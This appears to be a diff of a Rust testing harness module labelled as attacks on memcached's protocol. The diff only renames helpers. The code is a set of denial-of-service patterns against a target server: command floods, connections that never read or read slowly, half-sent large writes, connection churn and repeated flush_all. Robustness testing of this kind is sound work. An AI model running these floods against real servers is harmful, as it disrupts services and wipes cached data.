@@ -1,6 +1,6 @@
 //! Attacks on memcached's protocol. They are as valid against memcached.
 
-use crate::crowd::{Reads, begin, come_and_go, connect, drip as drip_bytes, pump};
+use crate::connections::{ReadBehaviour, connect, connect_and_reset, drip as drip_bytes, flood, send_once};
 use crate::target::Target;
 use std::io::{Read, Write};
 
@@ -19,68 +19,68 @@ fn store_large(target: &Target) {
 }
 
 pub(crate) fn noops(target: &Target) -> String {
-    pump(target, 8, b"", &b"mn\r\n".repeat(5_000), Reads::All)
+    flood(target, 8, b"", &b"mn\r\n".repeat(5_000), ReadBehaviour::All)
 }
 
 pub(crate) fn version(target: &Target) -> String {
-    pump(target, 1, b"", &b"version\r\n".repeat(5_000), Reads::All)
+    flood(target, 1, b"", &b"version\r\n".repeat(5_000), ReadBehaviour::All)
 }
 
 pub(crate) fn stats(target: &Target) -> String {
-    pump(target, 1, b"", &b"stats\r\n".repeat(500), Reads::All)
+    flood(target, 1, b"", &b"stats\r\n".repeat(500), ReadBehaviour::All)
 }
 
 pub(crate) fn junk(target: &Target) -> String {
-    pump(target, 1, b"", &b"xyzzy\r\n".repeat(5_000), Reads::All)
+    flood(target, 1, b"", &b"xyzzy\r\n".repeat(5_000), ReadBehaviour::All)
 }
 
 pub(crate) fn noreply(target: &Target) -> String {
-    pump(target, 8, b"", &b"set nr 0 0 1 noreply\r\nx\r\n".repeat(2_000), Reads::All)
+    flood(target, 8, b"", &b"set nr 0 0 1 noreply\r\nx\r\n".repeat(2_000), ReadBehaviour::All)
 }
 
 pub(crate) fn get_one(target: &Target) -> String {
-    pump(target, 1, b"", &b"get h1\r\n".repeat(2_000), Reads::All)
+    flood(target, 1, b"", &b"get h1\r\n".repeat(2_000), ReadBehaviour::All)
 }
 
 pub(crate) fn gets(target: &Target) -> String {
-    pump(target, 8, b"", &b"get h1\r\n".repeat(2_000), Reads::All)
+    flood(target, 8, b"", &b"get h1\r\n".repeat(2_000), ReadBehaviour::All)
 }
 
 pub(crate) fn keys(target: &Target) -> String {
     let line = format!("get{}\r\n", " h1 h2 h3".repeat(200));
-    pump(target, 4, b"", &line.into_bytes().repeat(20), Reads::All)
+    flood(target, 4, b"", &line.into_bytes().repeat(20), ReadBehaviour::All)
 }
 
 pub(crate) fn big_sets(target: &Target) -> String {
-    pump(target, 4, b"", &large_set(" noreply"), Reads::All)
+    flood(target, 4, b"", &large_set(" noreply"), ReadBehaviour::All)
 }
 
 pub(crate) fn unread(target: &Target) -> String {
     store_large(target);
-    pump(target, 50, b"", &b"get big\r\n".repeat(200), Reads::Nothing)
+    flood(target, 50, b"", &b"get big\r\n".repeat(200), ReadBehaviour::Nothing)
 }
 
 pub(crate) fn unread_crowd(target: &Target) -> String {
     store_large(target);
-    pump(target, 1_000, b"", &b"get big\r\n".repeat(200), Reads::Nothing)
+    flood(target, 1_000, b"", &b"get big\r\n".repeat(200), ReadBehaviour::Nothing)
 }
 
 pub(crate) fn unread_sets(target: &Target) -> String {
-    pump(target, 1_000, b"", &b"set unread 0 0 1\r\nx\r\n".repeat(1_000), Reads::Nothing)
+    flood(target, 1_000, b"", &b"set unread 0 0 1\r\nx\r\n".repeat(1_000), ReadBehaviour::Nothing)
 }
 
 pub(crate) fn slow_crowd(target: &Target) -> String {
     store_large(target);
-    pump(target, 400, b"", b"get big\r\n", Reads::Slowly(100))
+    flood(target, 400, b"", b"get big\r\n", ReadBehaviour::Slowly(100))
 }
 
 pub(crate) fn slow(target: &Target) -> String {
     store_large(target);
-    pump(target, 20, b"", b"get big\r\n", Reads::Slowly(1_000))
+    flood(target, 20, b"", b"get big\r\n", ReadBehaviour::Slowly(1_000))
 }
 
 pub(crate) fn half(target: &Target) -> String {
-    begin(target, 300, &[format!("set half 0 0 {LARGE}\r\n").into_bytes(), vec![b'x'; 900_000]].concat())
+    send_once(target, 300, &[format!("set half 0 0 {LARGE}\r\n").into_bytes(), vec![b'x'; 900_000]].concat())
 }
 
 pub(crate) fn drip(target: &Target) -> String {
@@ -88,13 +88,13 @@ pub(crate) fn drip(target: &Target) -> String {
 }
 
 pub(crate) fn storm(target: &Target) -> String {
-    come_and_go(target, b"get a\r\n")
+    connect_and_reset(target, b"get a\r\n")
 }
 
 pub(crate) fn churn(target: &Target) -> String {
-    come_and_go(target, &b"get h1\r\n".repeat(100))
+    connect_and_reset(target, &b"get h1\r\n".repeat(100))
 }
 
 pub(crate) fn flush(target: &Target) -> String {
-    pump(target, 4, b"", &b"flush_all noreply\r\n".repeat(1_000), Reads::All)
+    flood(target, 4, b"", &b"flush_all noreply\r\n".repeat(1_000), ReadBehaviour::All)
 }
